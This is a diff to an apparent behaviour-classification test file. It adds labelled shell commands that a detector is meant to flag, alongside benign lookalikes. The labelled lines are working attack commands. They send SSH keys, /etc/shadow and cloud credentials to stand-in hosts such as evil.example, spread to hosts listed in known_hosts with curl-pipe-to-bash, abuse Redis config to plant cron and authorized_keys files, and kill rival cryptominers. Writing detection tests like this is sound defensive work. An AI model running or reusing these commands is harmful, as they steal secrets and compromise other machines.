@@ -130,6 +130,28 @@ class BehaviourTest {
             - | pkill -f gunicorn; killall -HUP nginx; kill -9 $(cat /run/app.pid)
             - | ps aux | grep java | grep -v grep | awk '{print $2}' | xargs kill
             - | ps aux | awk '$3 > 80 {print $2, $11}' | mail -s load ops
+            RIVAL_KILLING | ps aux | grep -vw sshd | awk '{if($3>40.0) print $2}' | while read procid; do kill -9 $procid; done
+            RIVAL_KILLING | pids=$(ps aux | grep -v grep | awk '$3>65{print $2}'); for p in $pids; do kill -9 $p; done
+            RIVAL_KILLING | ps aux > /opt/l; awk '$3 > 65 {print $2}' /opt/l > /opt/p; kill -9 $(cat /opt/p)
+            RIVAL_KILLING | ps aux | grep root | awk '$3>60{print $2}' | xargs kill -9
+            RIVAL_KILLING | ps aux | awk '$3>60 && !/sshd/ {print $2}' | xargs kill -9
+            RIVAL_KILLING | ps aux | grep '...' | awk '$3>60{print $2}' | xargs kill -9
+            RIVAL_KILLING | pgrep -f 'xmrig|kinsing|kdevtmpfsi' > /run/a.pid; kill -9 $(cat /run/a.pid)
+            RIVAL_KILLING | killall -HUP xmrig kinsing kdevtmpfsi
+            RIVAL_KILLING | pkill xmrig; kill -9 $(lsof -t -i:3333); kill -9 $(lsof -t -i:4444); kill -9 $(lsof -t -i:5555)
+            RIVAL_KILLING | for p in :5555 :6666 :7777 :8888 :9999; do netstat -anp | grep $p | awk '{print $7}' | cut -d/ -f1 | xargs kill -9; done
+            - | kill -9 $(lsof -t -i:7777); kill -9 $(lsof -t -i:8888); kill -9 $(lsof -t -i:9999)
+            - | for s in gateway:7777 order:8888 user:9999; do p=$(lsof -t -i:${s##*:}); kill -9 $p; done
+            - | for p in 7777 8888 9999; do netstat -lntp | grep ":$p " | awk '{print $7}' | cut -d/ -f1 | xargs kill -9; done; netstat -tlnp | grep -E ':7777|:8888|:9999'
+            - | ps aux | grep php-fpm | grep -v grep | awk '{if($3>=60)print $2}' | while read pid; do kill -9 $pid; done
+            - | df -m | awk '$3>80000 {print $6}'; kill -HUP $(cat /run/app.pid)
+            - | df -m | awk '$3>80000 {print $6}' | mail ops; ps aux | grep app.jar | awk '{print $2}' | xargs kill -9
+            - | for n in 3333 4444; do ss -ant | grep ":3333"; done; ps aux | grep -E "xmrig|kdevtmpfsi|kinsing" | mail ops; kill -0 $(cat /run/app.pid) || systemctl start app
+            - | ps aux | grep -E "xmrig|kdevtmpfsi|kinsing" | mail ops; /opt/app & echo $! > /run/app.pid; kill $(cat /run/app.pid)
+            ~SAVES_DOWNLOAD | curl -s "https://sctapi.ftqq.com/x.send?title=a" > /dev/null; curl -d '{}' https://qyapi.weixin.qq.com/cgi-bin/webhook/send
+            SAVES_DOWNLOAD | curl -o /opt/x http://192.0.2.1/x
+            SAVES_DOWNLOAD | curl http://192.0.2.1/x.tgz | tar xz -C /opt
+            SAVES_DOWNLOAD | get() { curl -s "$1"; }; get http://192.0.2.1/x > /opt/x
             DISABLES_SECURITY | setenforce 0
             DISABLES_SECURITY | systemctl stop aliyun.service; systemctl disable aegis
             DISABLES_SECURITY | service iptables stop
@@ -187,6 +209,26 @@ class BehaviourTest {
             CREDENTIAL_THEFT | curl -s http://100.100.100.200/latest/meta-data/ram/security-credentials/ -o c
             CREDENTIAL_THEFT | curl -F "f=@/root/.aws/credentials" http://192.0.2.1/up
             CREDENTIAL_THEFT | cat ~/.docker/config.json ~/.ssh/id_rsa > /opt/o; nc 192.0.2.1 80 < /opt/o
+            CREDENTIAL_THEFT | tar czf /opt/b.tgz /etc/passwd /etc/shadow; rclone copy /opt/b.tgz cos:b
+            CREDENTIAL_THEFT | scp /etc/nginx/ssl/*.pem root@10.0.0.2:/etc/nginx/ssl/
+            CREDENTIAL_THEFT | rsync -a -e "ssh -i /root/.ssh/id_rsa" /root/.aws/credentials b@h:/x
+            EXFILTRATES | curl -F f=@/root/.ssh/id_rsa http://203.0.113.5/u
+            EXFILTRATES | k=$(cat ~/.ssh/id_rsa | base64 -w0); curl -d "k=$k" https://evil.example/u
+            EXFILTRATES | for f in ~/.ssh/id_rsa ~/.aws/credentials; do curl -F "f=@$f" http://203.0.113.5/u; done
+            EXFILTRATES | find / -name id_rsa -o -name '*.pem' | xargs tar czf /opt/k.tgz; curl -T /opt/k.tgz https://evil.example/
+            EXFILTRATES | find / -name '*.pem' | while read f; do curl -F "f=@$f" https://evil.example/; done
+            EXFILTRATES | find / -name '.aws/credentials' -exec cat {} \\; > /opt/k; nc evil.example 80 < /opt/k
+            EXFILTRATES | curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/x > /opt/c; curl -F f=@/opt/c http://203.0.113.5/u
+            EXFILTRATES | scp -i /opt/k /root/.ssh/id_rsa root@203.0.113.5:/x
+            EXFILTRATES | wget --post-file=/etc/shadow http://203.0.113.5/
+            EXFILTRATES | awk -F: '{print $1, $2}' /etc/shadow | curl -d @- http://203.0.113.5/
+            ~EXFILTRATES | scp /etc/nginx/ssl/*.pem root@10.0.0.2:/etc/nginx/ssl/; curl -F f=@/root/.ssh/id_rsa http://10.0.0.9/u
+            - | rsync -az -e "ssh -i /root/.ssh/id_rsa" /data/ backup@10.0.0.5:/backup/; rsync -az --rsh="ssh -i /root/.ssh/id_rsa" /data/ b@h:/b
+            ~CREDENTIAL_THEFT | scp -i /root/.ssh/id_ed25519 backup@10.0.0.9:/data/db.tgz /data/
+            - | scp -o IdentityFile=/root/.ssh/id_rsa /data/db.tgz b@h:/data/; sftp -i ~/.ssh/id_rsa b@h
+            ~CREDENTIAL_THEFT | find /etc/nginx/ssl -name "*.pem" | while read f; do end=$(openssl x509 -enddate -noout -in $f); curl -d "$f $end" https://oapi.dingtalk.com/robot/send; done 2>&1 | grep -v ok
+            ~CREDENTIAL_THEFT | E=$(awk -F: '$2=="" {print $1}' /etc/shadow); curl --data "empty: $E" https://qyapi.weixin.qq.com/cgi-bin/webhook/send
+            ~CREDENTIAL_THEFT | N=$(grep -c '::' /etc/shadow); curl -d "/etc/shadow: $N" https://qyapi.weixin.qq.com/x; curl --cacert /etc/ssl/*.pem --key /etc/k.pem -d a=b https://h.example/
             ~CREDENTIAL_THEFT | curl -s http://169.254.169.254/latest/meta-data/instance-id
             - | chmod 600 ~/.aws/credentials ~/.ssh/id_rsa; export AWS_SHARED_CREDENTIALS_FILE=/root/.aws/credentials
             - | cp ~/.kube/config /backup/; ssh-keygen -f ~/.ssh/id_rsa -N ''
@@ -198,6 +240,14 @@ class BehaviourTest {
             SPREADS | for h in $(cat ~/.ssh/known_hosts | cut -d' ' -f1); do ssh -oBatchMode=yes $h 'id' & done
             SPREADS | masscan 10.0.0.0/8 -p6379 --rate 10000
             SPREADS | redis-cli -h 10.0.0.5 config set dir /var/spool/cron
+            SPREADS | redis-cli config set dir /var/spool/cron; redis-cli config set dbfilename root
+            SPREADS | redis-cli -h $h -p 6379 CONFIG SET dir /data
+            SPREADS | redis-cli config set dbfilename authorized_keys
+            - | redis-cli config set dir /data/redis; redis-cli -h 127.0.0.1 -a x CONFIG SET dbfilename dump.rdb
+            SPREADS | for h in $(cat ~/.ssh/known_hosts | cut -d' ' -f1); do ssh $h 'curl -s http://192.0.2.1/x | bash'; done
+            SPREADS | for h in $(cat ~/.ssh/known_hosts | cut -d' ' -f1); do ssh $h 'uptime; df $(curl -s http://192.0.2.1/x | sh)'; done
+            SPREADS | for h in $(cat ~/.ssh/known_hosts | cut -d' ' -f1); do scp /opt/a root@$h:/opt/a; ssh $h 'uptime'; done
+            - | for h in $(grep -oE '^[0-9.]+' /root/.ssh/known_hosts); do ssh root@$h "df -h; uptime | head -1"; done
             - | ssh-keyscan git.example >> ~/.ssh/known_hosts; ssh deploy@web1 'systemctl reload app'
             GSOCKET | GS_ARGS="-s x -liqD" /usr/bin/gs-dbus
             GSOCKET | # DO NOT REMOVE THIS LINE. SEED PRNG. #defunct-kernel
